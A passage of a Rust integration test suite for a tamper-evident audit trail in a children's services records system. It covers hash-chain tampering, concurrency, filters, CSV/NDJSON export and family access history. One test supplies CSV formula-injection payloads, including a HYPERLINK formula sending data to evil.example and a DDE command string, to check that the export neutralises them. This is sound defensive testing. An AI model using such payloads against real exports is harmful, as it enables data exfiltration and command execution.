    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["firstBrokenSeq"], 3, "{report}");
    drop(app);

    // Edited and re-hashed: the next link no longer holds.
    let app = spawn_app().await;
    three_reads(&app).await;
    lift_triggers(&app).await;
    let link = app.store.trace_links(2, 1).await.expect("links").remove(0);
    assert_eq!(link.seq, 3);
    let canonical = link.canonical.replace("test-camhs", "test-someone-else");
    let hash = chain_hash(&link.prev_hash, &canonical);
    // The column is edited to match, so entry 3 is consistent in itself.
    sql(
        &app,
        &format!(
            "UPDATE access_trace SET entry = '{}', hash = '{hash}',
               actor_subject = 'test-someone-else' WHERE seq = 3",
            canonical.replace('\'', "''")
        ),
    )
    .await
    .expect("re-hash entry 3");
    let report = integrity(&app).await;
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["firstBrokenSeq"], 4, "{report}");
    drop(app);

    // A forged entry inserted after the head, with a made-up hash.
    let app = spawn_app().await;
    three_reads(&app).await;
    let head = app.store.trace_links(3, 1).await.expect("links").remove(0);
    let mut forged = TraceEntry::parse(&head.canonical).expect("entry");
    forged.seq = 5;
    forged.actor.subject = Some("test-forger".into());
    sql(
        &app,
        &format!(
            "INSERT INTO access_trace (seq, recorded_at, action, outcome, actor_subject, basis_kinds,
               withheld_any, override_used, entry, prev_hash, hash)
             VALUES (5, '2026-01-01 00:00:00+00:00', 'READ', 'SUCCESS', 'test-forger', ',', {f}, {f},
               '{}', '{}', '{}')",
            forged.canonical().replace('\'', "''"),
            head.hash,
            "f".repeat(64),
            f = if is_postgres() { "false" } else { "0" },
        ),
    )
    .await
    .expect("forge entry 5");
    let report = integrity(&app).await;
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["firstBrokenSeq"], 5, "{report}");
}

/// An edit to one searchable column of entry 3 (the CAMHS read of Amira).
async fn edit_column(column: &str) -> (TestApp, Value) {
    let app = spawn_app().await;
    three_reads(&app).await;
    lift_triggers(&app).await;
    let set = match column {
        // Entry 4 is about Jayden: the read of Amira moves to him.
        "child_id" => "child_id = (SELECT child_id FROM access_trace WHERE seq = 4)".to_owned(),
        "actor_subject" => "actor_subject = 'test-someone-else'".to_owned(),
        // Back to the time of entry 1, out of any search from then on.
        "recorded_at" => {
            "recorded_at = (SELECT recorded_at FROM access_trace WHERE seq = 1)".to_owned()
        }
        other => panic!("no edit for {other}"),
    };
    sql(
        &app,
        &format!("UPDATE access_trace SET {set} WHERE seq = 3"),
    )
    .await
    .unwrap_or_else(|e| panic!("edit {column}: {e}"));
    let report = integrity(&app).await;
    (app, report)
}

fn assert_broken_at_3(report: &Value, column: &str) {
    assert_eq!(report["ok"], false, "{column}: {report}");
    assert_eq!(report["firstBrokenSeq"], 3, "{column}: {report}");
    let problem = report["problem"].as_str().unwrap_or_default();
    assert!(
        problem.contains("searchable columns") && problem.contains(column),
        "{column}: {report}"
    );
}

#[tokio::test]
async fn an_entry_moved_to_another_child_is_found() {
    let (app, report) = edit_column("child_id").await;
    // The edit hides the read from a search for Amira ...
    let amira = trace(&app, json!({ "childId": AMIRA, "action": "READ" })).await;
    assert!(amira.iter().all(|e| seq(e) != 3), "{amira:#?}");
    // ... and the chain says so.
    assert_broken_at_3(&report, "child_id");
}

#[tokio::test]
async fn an_entry_given_another_actor_is_found() {
    let (app, report) = edit_column("actor_subject").await;
    let camhs = trace(&app, json!({ "actorSubject": "test-camhs" })).await;
    assert!(camhs.is_empty(), "{camhs:#?}");
    assert_broken_at_3(&report, "actor_subject");
}

#[tokio::test]
async fn an_entry_moved_in_time_is_found() {
    let (_app, report) = edit_column("recorded_at").await;
    assert_broken_at_3(&report, "recorded_at");
}

#[tokio::test]
async fn the_same_instant_written_another_way_is_not_an_edit() {
    let app = spawn_app().await;
    three_reads(&app).await;
    lift_triggers(&app).await;
    let link = app.store.trace_links(2, 1).await.expect("links").remove(0);
    let at = DateTime::parse_from_rfc3339(
        &TraceEntry::parse(&link.canonical)
            .expect("entry")
            .recorded_at,
    )
    .expect("time")
    .with_timezone(&chrono::FixedOffset::east_opt(3600).expect("offset"));
    // One hour east of UTC: another text on SQLite, the same instant.
    sql(
        &app,
        &format!(
            "UPDATE access_trace SET recorded_at = '{}' WHERE seq = 3",
            at.format("%Y-%m-%d %H:%M:%S%.6f%:z")
        ),
    )
    .await
    .expect("rewrite recorded_at");
    let report = integrity(&app).await;
    assert_eq!(report["ok"], true, "{report}");
}

const INTEGRITY_AT: &str = "query($seq: Int, $hash: String) {
  traceIntegrity(expectSeq: $seq, expectHash: $hash) {
    ok entriesChecked headSeq headHash firstBrokenSeq problem } }";

async fn integrity_at(app: &TestApp, seq: i64, hash: &str) -> Value {
    let answer = ig(app, INTEGRITY_AT, json!({ "seq": seq, "hash": hash })).await;
    assert!(answer.body["errors"].is_null(), "{answer:?}");
    answer.body["data"]["traceIntegrity"].clone()
}

#[tokio::test]
async fn a_truncated_tail_is_found_against_a_checkpoint() {
    let app = spawn_app().await;
    three_reads(&app).await;
    let checkpoint = app.store.trace_links(3, 1).await.expect("links").remove(0);
    assert_eq!(checkpoint.seq, 4);

    // Positive control: the intact chain holds the checkpoint.
    let report = integrity_at(&app, 4, &checkpoint.hash).await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["problem"], Value::Null, "{report}");

    // Entries 4 onwards are removed; what is left links up cleanly.
    lift_triggers(&app).await;
    sql(&app, "DELETE FROM access_trace WHERE seq >= 4")
        .await
        .expect("truncate the tail");
    let unchecked = integrity(&app).await;
    assert_eq!(unchecked["ok"], true, "{unchecked}");
    assert_eq!(unchecked["headSeq"], 3, "{unchecked}");
    // (That check left entry 4 behind: a TRACE_SEARCH with another hash.)

    // The head is now entry 4 again, but not the checkpoint's entry 4.
    let report = integrity_at(&app, 4, &checkpoint.hash).await;
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["firstBrokenSeq"], 4, "{report}");
    assert!(
        report["problem"]
            .as_str()
            .is_some_and(|p| p.contains("checkpoint")),
        "{report}"
    );

    // A checkpoint beyond the head: the end of the chain is missing.
    let report = integrity_at(&app, 40, &checkpoint.hash).await;
    assert_eq!(report["ok"], false, "{report}");
    assert!(
        report["problem"]
            .as_str()
            .is_some_and(|p| p.contains("checkpoint")),
        "{report}"
    );

    // Half a checkpoint, or a hash that is not one, is refused.
    let half = ig(&app, INTEGRITY_AT, json!({ "seq": 4 })).await;
    assert_eq!(half.codes(), vec!["BAD_USER_INPUT"], "{half:?}");
    let bad = ig(&app, INTEGRITY_AT, json!({ "seq": 4, "hash": "abc" })).await;
    assert_eq!(bad.codes(), vec!["BAD_USER_INPUT"], "{bad:?}");
}

// ---------------------------------------------------------------------------
// 6. The chain stays linear under concurrency.
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy)]
enum Job {
    /// A read by a persona (with purpose) of a child: one READ entry.
    Read(&'static str, &'static str, Uuid),
    /// The parent's `me { children { .. } }`: one READ entry (Amira).
    Me,
    /// An expired token: one AUTH_FAILED entry.
    BadToken,
    /// The parent grants and then withdraws: two entries, two requests.
    GrantWithdraw,
}

async fn run_job(app: &TestApp, job: Job) -> usize {
    match job {
        Job::Read(persona, query, child) => {
            let answer = app.graphql(persona, query, json!({ "id": child })).await;
            assert_eq!(answer.status, 200, "{persona}: {answer:?}");
            assert!(
                answer.body["data"]["child"].is_object(),
                "{persona}: {answer:?}"
            );
            1
        }
        Job::Me => {
            let answer = app
                .graphql_as(
                    Some(&app.token_for("parent")),
                    None,
                    "{ me { subject children { id allAboutMe { whatMatters } } } }",
                    json!({}),
                )
                .await;
            assert_eq!(
                answer.body["data"]["me"]["children"][0]["id"],
                AMIRA.to_string(),
                "{answer:?}"
            );
            1
        }
        Job::BadToken => {
            let answer = app
                .graphql_as(
                    Some(&expired_token(app, "camhs")),
                    Some("DIRECT_SUPPORT"),
                    READ,
                    json!({ "id": AMIRA }),
                )
                .await;
            assert_eq!(answer.status, 401, "{answer:?}");
            1
        }
        Job::GrantWithdraw => {
            let granted = app.graphql("parent", GRANT, health_grant(AMIRA)).await;
            let grant_id = granted.body["data"]["grantConsent"]["grantId"]
                .as_str()
                .unwrap_or_else(|| panic!("not granted: {granted:?}"))
                .to_owned();
            let withdrawn = app
                .graphql("parent", WITHDRAW, json!({ "id": grant_id }))
                .await;
            assert!(withdrawn.body["errors"].is_null(), "{withdrawn:?}");
            2
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_chain_stays_linear_under_concurrent_requests() {
    const REQUESTS: usize = 500;
    const IN_FLIGHT: usize = 32;
    const PAIRS: usize = 10;
    // No aggregation window: every failed authentication is its own entry.
    let app = Arc::new(spawn_app_with(|s| s.limits.auth_failure_window = Duration::ZERO).await);
    let started = Instant::now();

    let mut jobs = vec![Job::GrantWithdraw; PAIRS];
    let mut requests = PAIRS * 2;
    let mut i = 0;
    while requests < REQUESTS {
        jobs.push(match i % 8 {
            0 | 1 => Job::Read("senco", READ, AMIRA),
            2 => Job::Read("camhs", READ_CAMHS, AMIRA),
            3 => Job::Read("senco", READ, JAYDEN),
            4 => Job::Me,
            5 => Job::BadToken,
            6 => Job::Read(
                "ep",
                "query($id: ID!) { child(id: $id) { psychology { advice } } }",
                AMIRA,
            ),
            _ => Job::Read("yot", READ, JAYDEN),
        });
        requests += 1;
        i += 1;
    }
    // Spread the mutations among the reads.
    jobs.rotate_left(PAIRS / 2);
    let jobs = Arc::new(jobs);
    let next = Arc::new(AtomicUsize::new(0));

    let mut workers = Vec::new();
    for _ in 0..IN_FLIGHT {
        let (app, jobs, next) = (app.clone(), jobs.clone(), next.clone());
        workers.push(tokio::spawn(async move {
            let mut entries = 0;
            loop {
                let i = next.fetch_add(1, Ordering::SeqCst);
                let Some(job) = jobs.get(i).copied() else {
                    return entries;
                };
                entries += run_job(&app, job).await;
            }
        }));
    }
    let mut written = 0;
    for worker in workers {
        written += worker.await.expect("worker");
    }
    assert_eq!(written, REQUESTS, "each request leaves one entry here");

    // The agreement's entry, then one per request, numbered without gaps.
    let report = integrity(&app).await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["entriesChecked"], REQUESTS + 1, "{report}");
    assert_eq!(report["headSeq"], REQUESTS + 1, "{report}");
    let n = assert_chain_intact(&app).await;
    assert_eq!(n, REQUESTS + 2, "plus the integrity check");

    // One entry per request, each with its own request id.
    let all = trace(&app, json!({})).await;
    let request_ids: BTreeSet<&str> = all[1..=REQUESTS]
        .iter()
        .filter_map(|e| e["requestId"].as_str())
        .collect();
    assert_eq!(request_ids.len(), REQUESTS);
    let count = |action: &str| all.iter().filter(|e| e["action"] == action).count();
    assert_eq!(count("CONSENT_GRANTED"), PAIRS);
    assert_eq!(count("CONSENT_WITHDRAWN"), PAIRS);
    assert_eq!(
        count("AUTH_FAILED"),
        jobs.iter().filter(|j| matches!(j, Job::BadToken)).count()
    );
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "took {:?}",
        started.elapsed()
    );
}

// ---------------------------------------------------------------------------
// 7. Filters and pagination.
// ---------------------------------------------------------------------------

/// A filter with the predicate an entry must satisfy to match it.
type Check = (Value, Box<dyn Fn(&Value) -> bool>);

/// Asserts `filter` returns exactly the entries of `snapshot` matching
/// `matches` (entries after the snapshot, from the searches themselves, must
/// match too), both in one page and in pages of two.
async fn assert_filter(
    app: &TestApp,
    snapshot: &[Value],
    filter: &Value,
    matches: &dyn Fn(&Value) -> bool,
) {
    let head = snapshot.last().map_or(0, seq);
    let expected: Vec<i64> = snapshot.iter().filter(|e| matches(e)).map(seq).collect();
    assert!(
        !expected.is_empty(),
        "{filter} matches nothing: a weak test"
    );
    assert!(
        expected.len() < snapshot.len(),
        "{filter} matches everything: a weak test"
    );

    let check = |nodes: &[Value], how: &str| {
        let got = seqs(nodes);
        assert!(
            got.windows(2).all(|w| w[0] < w[1]),
            "{filter} ({how}): not ascending or duplicated: {got:?}"
        );
        for node in nodes {
            assert!(matches(node), "{filter} ({how}) returned {node}");
        }
        let known: Vec<i64> = got.into_iter().filter(|s| *s <= head).collect();
        assert_eq!(known, expected, "{filter} ({how})");
    };

    let one = trace_page(app, filter, 500, None).await;
    assert!(!one.has_next, "{filter}");
    let nodes: Vec<Value> = one.edges.iter().map(|e| e["node"].clone()).collect();
    check(&nodes, "one page");

    let mut paged = Vec::new();
    let mut after: Option<String> = None;
    let mut finished = false;
    for _ in 0..200 {
        let page = trace_page(app, filter, 2, after.as_deref()).await;
        assert!(page.edges.len() <= 2, "{filter}: {page:?}");
        if page.has_next {
            assert_eq!(page.edges.len(), 2, "{filter}: {page:?}");
        }
        if let Some(last) = page.edges.last() {
            assert_eq!(
                page.end_cursor.as_deref(),
                last["cursor"].as_str(),
                "{filter}: {page:?}"
            );
            after = page.end_cursor.clone();
        }
        paged.extend(page.edges.iter().map(|e| e["node"].clone()));
        if !page.has_next {
            finished = true;
            break;
        }
    }
    assert!(finished, "{filter}: pagination did not end");
    check(&paged, "pages of two");
}

#[tokio::test]
async fn filters_and_pagination_return_exactly_the_matching_entries() {
    let app = spawn_app().await;
    let read = |persona: &'static str, purpose: &'static str, query: &'static str, child: Uuid| {
        let app = &app;
        async move {
            let token = app.token_for(persona);
            app.graphql_as(Some(&token), Some(purpose), query, json!({ "id": child }))
                .await
        }
    };
    read("senco", "DIRECT_SUPPORT", READ, AMIRA).await;
    read("camhs", "DIRECT_SUPPORT", READ_CAMHS, AMIRA).await;
    read("senco", "DIRECT_SUPPORT", READ, AMIRA).await;
    tokio::time::sleep(Duration::from_millis(30)).await;
    let middle = Utc::now();
    tokio::time::sleep(Duration::from_millis(30)).await;
    read("senco", "DIRECT_SUPPORT", READ, JAYDEN).await;
    read("camhs", "DIRECT_SUPPORT", READ_CAMHS, JAYDEN).await;
    read("camhs", "EHC_ASSESSMENT", ALL_ABOUT_ME, AMIRA).await;
    // A parent asking for another family's child: nothing is disclosed.
    let parent = app
        .graphql_as(
            Some(&app.token_for("parent")),
            None,
            READ,
            json!({ "id": JAYDEN }),
        )
        .await;
    assert_eq!(parent.codes(), vec!["NOT_FOUND"], "{parent:?}");
    // A read under a safeguarding override.
    let lead = app.token_for("social-worker");
    let declared = app
        .graphql_as(
            Some(&lead),
            Some("SAFEGUARDING"),
            DECLARE,
            declare_input(JAYDEN),
        )
        .await;
    assert!(declared.body["errors"].is_null(), "{declared:?}");
    let sg = app
        .graphql_as(
            Some(&lead),
            Some("SAFEGUARDING"),
            "query($id: ID!) { child(id: $id) { restricted { kind } socialCare { shortBreaks } } }",
            json!({ "id": JAYDEN }),
        )
        .await;
    assert!(sg.body["data"]["child"]["restricted"].is_array(), "{sg:?}");
    tokio::time::sleep(Duration::from_millis(30)).await;
    let late = Utc::now();
    tokio::time::sleep(Duration::from_millis(30)).await;
    read("senco", "ANNUAL_REVIEW", READ, AMIRA).await;
    let refused = app
        .graphql_as(
            Some(&expired_token(&app, "senco")),
            None,
            READ,
            json!({ "id": AMIRA }),
        )
        .await;
    assert_eq!(refused.status, 401);

    let snapshot = trace(&app, json!({})).await;
    assert_eq!(
        seqs(&snapshot),
        (1..=snapshot.len() as i64).collect::<Vec<_>>()
    );

    // The EHC assessment read rests on the family's grant to CAMHS.
    let ehc: Vec<&Value> = snapshot
        .iter()
        .filter(|e| e["purpose"] == "EHC_ASSESSMENT")
        .collect();
    assert_eq!(ehc.len(), 1, "{snapshot:#?}");
    assert_eq!(
        ehc[0]["basis"],
        json!([{ "scope": "ALL_ABOUT_ME", "kind": "CONSENT", "grantIds": [CAMHS_GRANT.to_string()],
                 "overrideId": null, "agreementVersion": 1 }]),
        "{}",
        ehc[0]
    );

    let amira = AMIRA.to_string();
    let jayden = JAYDEN.to_string();
    let school = SCHOOL.to_string();
    let camhs = CAMHS.to_string();
    let (middle_s, late_s) = (middle.to_rfc3339(), late.to_rfc3339());
    let checks: Vec<Check> = vec![
        (
            json!({ "from": middle_s }),
            Box::new(move |e| recorded_at(e) >= middle),
        ),
        (
            json!({ "to": middle_s }),
            Box::new(move |e| recorded_at(e) < middle),
        ),
        (
            json!({ "from": middle_s, "to": late_s }),
            Box::new(move |e| recorded_at(e) >= middle && recorded_at(e) < late),
        ),
        (
            json!({ "childId": amira }),
            Box::new({
                let amira = amira.clone();
                move |e| e["childId"] == amira.as_str()
            }),
        ),
        (
            json!({ "childId": jayden }),
            Box::new({
                let jayden = jayden.clone();
                move |e| e["childId"] == jayden.as_str()
            }),
        ),
        (
            json!({ "agencyId": school }),
            Box::new({
                let school = school.clone();
                move |e| e["actorAgencyId"] == school.as_str()
            }),
        ),
        (
            json!({ "agencyId": camhs }),
            Box::new(move |e| e["actorAgencyId"] == camhs.as_str()),
        ),
        (
            json!({ "actorSubject": "test-camhs" }),
            Box::new(|e| e["actorSubject"] == "test-camhs"),
        ),
        (
            json!({ "action": "READ" }),
            Box::new(|e| e["action"] == "READ"),
        ),
        (
            json!({ "action": "AUTH_FAILED" }),
            Box::new(|e| e["action"] == "AUTH_FAILED"),
        ),
        (
            json!({ "basis": "CONSENT" }),
            Box::new(|e| basis_kinds(e).contains("CONSENT")),
        ),
        (
            json!({ "basis": "PUBLIC_TASK" }),
            Box::new(|e| basis_kinds(e).contains("PUBLIC_TASK")),
        ),
        (
            json!({ "basis": "SAFEGUARDING" }),
            Box::new(|e| basis_kinds(e).contains("SAFEGUARDING")),
        ),
        (
            json!({ "overridesOnly": true }),
            Box::new(|e| basis_kinds(e).contains("SAFEGUARDING")),
        ),
        (
            json!({ "purpose": "EHC_ASSESSMENT" }),
            Box::new(|e| e["purpose"] == "EHC_ASSESSMENT"),
        ),
        (
            json!({ "purpose": "SAFEGUARDING" }),
            Box::new(|e| e["purpose"] == "SAFEGUARDING"),
        ),
        (
            json!({ "childId": amira, "actorSubject": "test-senco", "action": "READ" }),
            Box::new(move |e| {
                e["childId"] == amira.as_str()
                    && e["actorSubject"] == "test-senco"
                    && e["action"] == "READ"
            }),
        ),
        (
            json!({ "agencyId": school, "purpose": "DIRECT_SUPPORT", "deniedOnly": true }),
            Box::new(move |e| {
                e["actorAgencyId"] == school.as_str()
                    && e["purpose"] == "DIRECT_SUPPORT"
                    && denied(e)
            }),
        ),
        // Last, as it currently fails: entries refused outright (outcome
        // DENIED, nothing withheld because nothing was decided per scope)
        // are denials too.
        (json!({ "deniedOnly": true }), Box::new(denied)),
    ];
    for (filter, matches) in &checks {
        assert_filter(&app, &snapshot, filter, matches.as_ref()).await;
    }

    // A cursor past the end, and bad arguments.
    let past = trace_page(&app, &json!({}), 10, Some("seq:1000000")).await;
    assert!(past.edges.is_empty() && !past.has_next, "{past:?}");
    for (vars, field) in [
        (json!({ "first": 0 }), "first"),
        (json!({ "first": 501 }), "first"),
        (json!({ "after": "bogus" }), "after"),
        (json!({ "filter": { "childId": "not-a-uuid" } }), "childId"),
    ] {
        let answer = ig(&app, &trace_query(), vars).await;
        assert_eq!(answer.codes(), vec!["BAD_USER_INPUT"], "{answer:?}");
        assert_eq!(
            answer.body["errors"][0]["extensions"]["field"], field,
            "{answer:?}"
        );
    }
}

// ---------------------------------------------------------------------------
// 8. Export.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
    let app = spawn_app().await;
    three_reads(&app).await;
    let ig_token = app.token_for("ig-auditor");
    let expected = trace(&app, json!({ "childId": AMIRA, "action": "READ" })).await;
    assert_eq!(expected.len(), 2);

    // NDJSON, filtered: the same entries as accessTrace, with their links.
    let (status, content_type, body) = export(
        &app,
        Some(&ig_token),
        &format!("?format=ndjson&childId={AMIRA}&action=READ"),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert!(
        content_type.starts_with("application/x-ndjson"),
        "{content_type}"
    );
    let lines: Vec<Value> = body
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    assert_eq!(lines.len(), expected.len(), "{body}");
    for (line, entry) in lines.iter().zip(&expected) {
        assert_eq!(line["seq"], entry["seq"], "{line}");
        assert_eq!(line["hash"], entry["hash"], "{line}");
        assert_eq!(line["prev_hash"], entry["prevHash"], "{line}");
        assert_eq!(line["action"], "READ");
        assert_eq!(line["child_id"], AMIRA.to_string());
        assert_eq!(line["actor"]["subject"], entry["actorSubject"]);
        assert_eq!(line["disclosed"], entry["disclosed"]);
    }

    // NDJSON, whole: verifiable offline, ending with the export's own entry.
    let (status, _, body) = export(&app, Some(&ig_token), "").await;
    assert_eq!(status, 200, "{body}");
    let mut prev = GENESIS.to_owned();
    let mut last = Value::Null;
    for (i, line) in body.lines().enumerate() {
        let mut value: Value = serde_json::from_str(line).expect("NDJSON line");
        assert_eq!(value["seq"], i + 1, "{line}");
        let hash = value["hash"].as_str().expect("hash").to_owned();
        assert_eq!(value["prev_hash"], prev.as_str(), "{line}");
        if let Some(map) = value.as_object_mut() {
            map.remove("hash");
            map.remove("prev_hash");
        }
        let entry: TraceEntry = serde_json::from_value(value.clone()).expect("an entry");
        assert_eq!(chain_hash(&prev, &entry.canonical()), hash, "{line}");
        prev = hash;
        last = value;
    }
    assert_eq!(last["action"], "EXPORT", "{body}");
    assert_eq!(last["details"]["format"], "ndjson", "{last}");

    // CSV: a header and one row per entry.
    let (status, content_type, body) = export(
        &app,
        Some(&ig_token),
        &format!("?format=csv&childId={AMIRA}&action=READ"),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    let mut rows = body.lines();
    let header = rows.next().expect("header");
    assert!(
        header.starts_with("seq,recorded_at,action,outcome,actor_subject"),
        "{header}"
    );
    assert!(header.ends_with(",hash"), "{header}");
    let rows: Vec<&str> = rows.collect();
    assert_eq!(rows.len(), expected.len(), "{body}");
    for (row, entry) in rows.iter().zip(&expected) {
        assert!(row.starts_with(&format!("{},", seq(entry))), "{row}");
        assert!(
            row.ends_with(entry["hash"].as_str().expect("hash")),
            "{row}"
        );
        assert!(row.contains(",READ,"), "{row}");
        assert!(!row.contains("Amira"), "{row}");
    }

    // Only IG staff; only the formats there are.
    for persona in ["senco", "parent", "case-officer"] {
        let (status, _, body) = export(&app, Some(&app.token_for(persona)), "").await;
        assert_eq!(status, 403, "{persona}: {body}");
        let body: Value = serde_json::from_str(&body).expect("JSON error");
        assert_eq!(body["errors"][0]["extensions"]["code"], "FORBIDDEN");
    }
    let (status, _, body) = export(&app, None, "").await;
    assert_eq!(status, 401, "{body}");
    for query in [
        "?format=xml",
        "?action=NOPE",
        "?childId=nope",
        "?colour=blue",
    ] {
        let (status, _, body) = export(&app, Some(&ig_token), query).await;
        assert_eq!(status, 400, "{query}: {body}");
        let body: Value = serde_json::from_str(&body).expect("JSON error");
        assert_eq!(
            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
            "{query}"
        );
    }
    // Three successful exports were traced; refused ones disclosed nothing.
    let exports = trace(&app, json!({ "action": "EXPORT" })).await;
    assert_eq!(exports.len(), 3, "{exports:#?}");
}

/// The cells of one CSV record (RFC 4180 quoting), for a record on one line.
fn csv_cells(row: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let (mut quoted, mut chars) = (false, row.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().expect("cell").push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().expect("cell").push(c),
        }
    }
    cells
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let app = spawn_app().await;
    let subjects = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        // A leading tab or CR cannot reach the trace through a token (a
        // control character in `sub` is refused at the door); the cell rule
        // for them is tested in export.rs.
        "plain-subject",
    ];
    for subject in subjects {
        let mut claims = app.claims_for("senco");
        claims["sub"] = json!(subject);
        let token = app.hs256(&claims);
        let read = app
            .graphql_as(
                Some(&token),
                Some("DIRECT_SUPPORT"),
                READ,
                json!({ "id": AMIRA }),
            )
            .await;
        assert!(
            read.body["data"]["child"].is_object(),
            "{subject}: {read:?}"
        );
    }
    let (status, _, body) = export(
        &app,
        Some(&app.token_for("ig-auditor")),
        &format!("?format=csv&childId={AMIRA}&action=READ"),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let cells: Vec<String> = body
        .lines()
        .skip(1)
        .map(|row| csv_cells(row)[4].clone())
        .collect();
    assert_eq!(cells.len(), subjects.len(), "{body}");
    for (cell, subject) in cells.iter().zip(subjects) {
        if subject == "plain-subject" {
            // Positive control: an ordinary value is left as it is.
            assert_eq!(cell, subject);
        } else {
            assert_eq!(*cell, format!("'{subject}"), "{body}");
        }
    }
    assert!(
        body.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""),
        "{body}"
    );
}

#[tokio::test]
async fn a_nul_in_a_trace_filter_is_bad_input() {
    let app = spawn_app().await;
    three_reads(&app).await;
    let ig_token = app.token_for("ig-auditor");
    for (query, parameter) in [
        ("?actorSubject=test-senco%00x", "actorSubject"),
        ("?format=csv&actorSubject=%00", "actorSubject"),
        ("?childId=%00", "childId"),
        ("?from=2026-01-01T00:00:00Z%00", "from"),
    ] {
        let (status, _, body) = export(&app, Some(&ig_token), query).await;
        assert_eq!(status, 400, "{query}: {body}");
        let body: Value = serde_json::from_str(&body).expect("JSON error");
        assert_eq!(
            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
            "{query}: {body}"
        );
        let message = body["errors"][0]["message"].as_str().unwrap_or_default();
        assert!(message.contains(parameter), "{query}: {body}");
    }
    let answer = ig(
        &app,
        &trace_query(),
        json!({ "filter": { "actorSubject": "test-senco\u{0}x" } }),
    )
    .await;
    assert_eq!(answer.codes(), vec!["BAD_USER_INPUT"], "{answer:?}");
    assert!(answer.message().contains("actorSubject"), "{answer:?}");
    assert!(answer.body["data"].is_null(), "{answer:?}");
    // Positive control: the same filter without the NUL works.
    let senco = trace(&app, json!({ "actorSubject": "test-senco" })).await;
    assert_eq!(senco.len(), 2, "{senco:#?}");
    let (status, _, body) = export(&app, Some(&ig_token), "?actorSubject=test-senco").await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body.lines().count(), 2, "{body}");
}

// ---------------------------------------------------------------------------
// 9. Families see who looked.
// ---------------------------------------------------------------------------

fn history_items(answer: &Answer) -> Vec<Value> {
    answer.body["data"]["accessHistory"]["edges"]
        .as_array()
        .unwrap_or_else(|| panic!("no history: {answer:?}"))
        .iter()
        .map(|e| e["node"].clone())
        .collect()
}

#[tokio::test]
async fn families_see_which_agency_looked_at_what_and_why() {
    let app = spawn_app().await;
    let parent = app.token_for("parent");
    // Amira's NHS number and date of birth, as her mother sees them.
    let identity = app
        .graphql_as(
            Some(&parent),
            None,
            "query($id: ID!) { child(id: $id) { identity { nhsNumber dateOfBirth } } }",
            json!({ "id": AMIRA }),
        )
        .await;
    let nhs = identity.body["data"]["child"]["identity"]["nhsNumber"].clone();
    let dob = identity.body["data"]["child"]["identity"]["dateOfBirth"].clone();
    assert!(nhs.is_string() && dob.is_string(), "{identity:?}");

    app.graphql("senco", READ, json!({ "id": AMIRA })).await;
    app.graphql("camhs", READ_CAMHS, json!({ "id": AMIRA }))
        .await;
    app.graphql("senco", READ, json!({ "id": JAYDEN })).await;
    app.graphql("camhs", READ_CAMHS, json!({ "id": JAYDEN }))
        .await;
    let found = app
        .graphql(
            "camhs",
            "query($n: String!, $d: Date!) { childByNhsNumber(nhsNumber: $n, dateOfBirth: $d) { id } }",
            json!({ "n": nhs, "d": dob }),
        )
        .await;
    assert_eq!(
        found.body["data"]["childByNhsNumber"]["id"],
        AMIRA.to_string(),
        "{found:?}"
    );
    // The IG auditor's search is not a look at the record.
    trace(&app, json!({ "childId": AMIRA })).await;

    let history = app
        .graphql_as(Some(&parent), None, HISTORY, json!({ "id": AMIRA }))
        .await;
    let items = history_items(&history);
    // The school's read, CAMHS's read, CAMHS's search and the read it returned.
    assert_eq!(items.len(), 4, "{history:?}");
    assert_eq!(
        history.body["data"]["accessHistory"]["pageInfo"]["hasNextPage"],
        false
    );
    for item in &items {
        assert_eq!(item["practitioner"], Value::Null, "{item}");
        assert_eq!(item["purpose"], "DIRECT_SUPPORT", "{item}");
        assert!(item["at"].is_string(), "{item}");
        let summary = item["summary"].as_str().expect("summary");
        let agency = item["agencyName"].as_str().expect("agency name");
        assert!(summary.contains(agency), "{item}");
        assert!(summary.contains("direct support"), "{item}");
        // Nothing of Jayden's, and no record values.
        assert!(!item.to_string().contains("Jayden"), "{item}");
        assert!(!item.to_string().contains("Year 4"), "{item}");
    }
    let school = &items[0];
    assert_eq!(school["agencyName"], "Riverside Primary School");
    assert_eq!(school["agencyKind"], "SCHOOL");
    // What was shown, not what was withheld.
    assert_eq!(
        strings(&school["scopes"]),
        BTreeSet::from(["EDUCATION".to_owned(), "IDENTITY".to_owned()]),
        "{school}"
    );
    assert_eq!(
        strings(&school["basis"]),
        BTreeSet::from(["CONSENT".to_owned(), "PUBLIC_TASK".to_owned()]),
        "{school}"
    );
    assert!(
        school["summary"]
            .as_str()
            .is_some_and(|s| s.contains("school and learning")),
        "{school}"
    );
    let camhs = &items[1];
    assert_eq!(camhs["agencyName"], "Northshire CAMHS");
    assert_eq!(
        strings(&camhs["scopes"]),
        BTreeSet::from([
            "ALL_ABOUT_ME".to_owned(),
            "IDENTITY".to_owned(),
            "MENTAL_HEALTH".to_owned()
        ]),
        "{camhs}"
    );
    assert!(
        items[2..].iter().any(|i| i["summary"]
            .as_str()
            .is_some_and(|s| s.contains("searched"))),
